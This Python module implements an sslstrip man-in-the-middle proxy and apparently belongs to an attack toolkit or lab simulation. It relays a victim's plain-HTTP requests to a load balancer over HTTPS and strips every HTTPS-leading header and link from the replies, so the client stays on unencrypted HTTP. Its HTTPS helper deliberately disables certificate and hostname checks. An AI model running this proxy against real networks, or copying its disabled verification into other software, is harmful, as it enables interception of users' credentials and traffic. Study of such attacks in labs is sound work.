"""sslstrip: speaks plain HTTP with the client, HTTPS with the balancer, and hides the second from the first."""

from __future__ import annotations

import http.client
import socket
import ssl
from ipaddress import IPv4Address

from attack.listener import Headers, Listener, Response
from attack.overheard import Ear
from attack.redirection import HTTP_PORT
from attack.stripping import stripped_body, stripped_headers

_PATIENCE_S = 10.0


class StrippingProxy(Listener):
    """Hands requests on to the balancer, and answers back without anything that leads to HTTPS. Raises OSError."""

    name = "strip"

    def __init__(self, address: IPv4Address, balancer: IPv4Address, ear: Ear) -> None:
        self._balancer = balancer
        super().__init__(address, HTTP_PORT, ear)

    def respond(self, method: str, path: str, headers: Headers, body: bytes) -> Response:
        given = {name.lower(): value for name, value in headers}
        host = given.pop("host", "parseltongue.co.in").partition(":")[0]
        for name in ("accept-encoding", "connection", "content-length"):  # it has to read what it hands on
            given.pop(name, None)
        try:
            connection = _HttpsTo(self._balancer, host)
            connection.request(method, path, body or None, {**given, "Host": host})
            answer = connection.getresponse()
            content = answer.read()
            connection.close()
        except (OSError, http.client.HTTPException) as fault:
            return Response(502, [("Content-Type", "text/plain")], f"The isp got no answer: {fault}\n".encode())
        kept = stripped_headers(answer.getheaders())
        return Response(answer.status, kept, stripped_body(content, answer.getheader("Content-Type", "")))


class _HttpsTo(http.client.HTTPSConnection):
    """HTTPS with `host` at a given address. The certificate is not looked at: what it proves matters to others."""

    def __init__(self, address: IPv4Address, host: str) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        super().__init__(host, 443, timeout=_PATIENCE_S, context=context)
        self._address, self._tls = address, context

    def connect(self) -> None:
        plain = socket.create_connection((str(self._address), 443), timeout=_PATIENCE_S)
        self.sock = self._tls.wrap_socket(plain, server_hostname=self.host)
